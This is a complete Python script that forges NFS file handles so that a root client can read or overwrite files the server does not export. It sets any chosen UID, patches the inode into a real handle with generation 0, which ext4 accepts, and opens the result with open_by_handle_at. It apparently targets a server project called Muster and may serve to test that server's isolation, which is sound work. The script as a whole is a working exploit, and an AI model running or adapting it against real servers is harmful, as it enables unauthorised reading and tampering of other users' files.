"""Read or write a file of an NFS server that it does not export.

    forge.py SERVED INODE UID [TEXT]

Runs as root of a client, which may say any number for a user and make up any file handle. SERVED is
a file of the server that is mounted here, INODE the number of another one in its file system there,
UID whose rights to claim. Writes TEXT to the file's beginning; without TEXT prints its content.
Prints the error of what is refused.

A handle of the kernel's server ends with inode and generation, 32 bits each (struct knfsd_fh); for
the generation 0 ext4 takes any (ext4_nfs_get_inode). The kernel's client puts the server's handle
into its own, after the file's number, its type and a length (nfs_encode_fh).

For ext4 alone, on which Muster puts what it serves. XFS numbers inodes with 64 bits and wants the
very generation, a random number that the client is not told of files that it does not reach
(xfs_nfs_get_inode). What keeps a file out of reach is the same for both: its file system is not
the one that the handle begins with, which the server looks at before the file system does.
"""

import ctypes
import os
import stat
import struct
import sys
from pathlib import Path

MOST = 128
"""Bytes of a handle at most, MAX_HANDLE_SZ."""
HEAD = struct.Struct("=Ii")
"""handle_bytes and handle_type of struct file_handle."""
CLIENT = struct.Struct("=III H")
"""File number (high, low), type, and bytes of the server's handle."""

libc = ctypes.CDLL(None, use_errno=True)


def main(served: str, inode: int, uid: int, text: str | None = None) -> int:
    """Open the forged handle, and read or write what it leads to; return the exit status."""
    handle = ctypes.create_string_buffer(HEAD.pack(MOST, 0), HEAD.size + MOST)
    place = ctypes.c_int()
    if libc.name_to_handle_at(-100, served.encode(), handle, ctypes.byref(place), 0):
        raise OSError(ctypes.get_errno(), "name_to_handle_at")
    *_, length = CLIENT.unpack_from(handle, HEAD.size)
    CLIENT.pack_into(handle, HEAD.size, 0, inode, stat.S_IFREG, length)
    struct.pack_into("=II", handle, HEAD.size + CLIENT.size + length - 8, inode, 0)
    mount = os.open(Path(served).parent, os.O_RDONLY)
    opened = libc.open_by_handle_at(mount, handle, os.O_PATH)
    if opened < 0:
        sys.stdout.write(f"{os.strerror(ctypes.get_errno())}\n")
        return 1
    os.setresgid(uid, uid, uid)
    os.setresuid(uid, uid, uid)
    file = Path(f"/proc/self/fd/{opened}")
    try:
        if text is None:
            sys.stdout.write(file.read_text(encoding="utf-8"))
        else:
            with file.open("r+", encoding="utf-8") as stream:
                stream.write(text)
    except OSError as error:
        sys.stdout.write(f"{error.strerror}\n")
        return 1
    return 0


if __name__ == "__main__":
    of_server, number, whose, *texts = sys.argv[1:]
    sys.exit(main(of_server, int(number), int(whose), *texts))
